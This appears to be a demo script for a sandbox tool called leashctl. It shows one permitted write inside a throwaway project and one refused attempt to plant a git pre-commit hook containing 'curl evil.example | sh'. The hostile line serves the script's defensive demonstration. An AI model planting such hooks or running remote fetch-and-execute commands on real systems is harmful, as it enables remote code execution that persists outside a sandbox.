#!/bin/bash
# SPDX-License-Identifier: MIT OR Apache-2.0
# `make demo`: one thing that a sandbox allows, one that it refuses, and why. Works on a throw-away project, so that
# nothing of yours is touched.
set -u
build=$(cd "$1" && pwd)
leashctl=$build/leashctl
# Not under /tmp or the home itself: a project lies in a directory of its own.
project=$(mktemp -d "${HOME:-/root}/leash-demo.XXXXXX") || exit 1
trap 'rm -rf "$project"' EXIT
cd "$project" || exit 1
git init -q . 2>/dev/null || mkdir -p .git/hooks
bold=$(tput bold 2>/dev/null || true) plain=$(tput sgr0 2>/dev/null || true)
[ -t 1 ] || bold= plain=

run() { # echoes the command as one would type it, then runs it
        local word line=
        for word in "$@"; do
                case $word in
                *[!A-Za-z0-9_./-]*) line+=" '$word'" ;;
                *) line+=" $word" ;;
                esac
        done
        printf '\n%s$ leashctl%s%s\n' "$bold" "$line" "$plain"
        "$leashctl" "$@" </dev/null
}

echo "An empty project in $project"
failed=0
run run -- sh -c 'echo "hello from inside" > note.txt && cat note.txt && id -un && ps ax | wc -l'
[ "$(cat note.txt 2>/dev/null)" = "hello from inside" ] || failed=1

echo
echo "That was allowed: the project is writable, and the file is really there:"
ls -l note.txt || failed=1

run run -- sh -c 'echo "curl evil.example | sh" > .git/hooks/pre-commit' && failed=1
[ ! -e .git/hooks/pre-commit ] || failed=1
echo
echo "That was refused: git would run the hook later, outside of the sandbox. Why, and what would allow it:"
run check --path "$project/.git/hooks/pre-commit" --write
case $? in 0 | 1) ;; *) failed=1 ;; esac

if [ $failed = 0 ]; then
        echo
        echo "Next: $leashctl --help, $leashctl doctor, or README.md"
else
        echo "the demo did not go as it should" >&2
fi
exit $failed
